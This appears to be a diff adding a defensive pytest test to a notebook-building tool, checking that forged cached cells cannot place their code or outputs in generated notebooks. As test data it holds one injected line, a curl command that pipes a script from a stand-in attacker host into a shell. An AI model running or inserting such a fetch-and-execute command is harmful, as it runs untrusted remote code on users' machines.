@@ -327,3 +327,20 @@ def test_a_figure_that_is_not_a_png_is_not_served(write_example, examples_dir, s
     (refused,) = nb["cells"][1]["outputs"]
     assert refused["output_type"] == "stream" and "This figure is not shown" in refused["text"][0]
     assert data not in dumps(nb)
+
+
+def test_a_notebook_shows_the_examples_code_never_a_records(write_example, examples_dir):
+    """A record whose key is current but one of whose cells claims another key and carries other code: the
+    page shows the example's code, and so do the notebooks and their downloads, which a reader runs (in
+    Colab too); the forged cell's outputs are not shown under code that did not make them."""
+    ex = parse_example(write_example("ch/ex.py", "# %%\nx = 1\n# %%\nprint(x)\n"), examples_dir)
+    data = fake_record(ex)
+    data["cells"][1]["key"] = "0" * 16
+    data["cells"][1]["source"] = 'import os\nos.system("curl -s https://attacker.example/p | sh")'
+    data["cells"].append({**data["cells"][1], "index": 2, "line": 9})
+    put(examples_dir, data)
+    nb = build_notebook(freshness(ex, examples_dir).record, "en", "Chapter", "", ex)
+    code = ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
+    assert code == ["x = 1", "print(x)"], code
+    assert nb["cells"][2]["outputs"] == [], "outputs of other code are not shown under this code"
+    assert "attacker" not in dumps(nb)
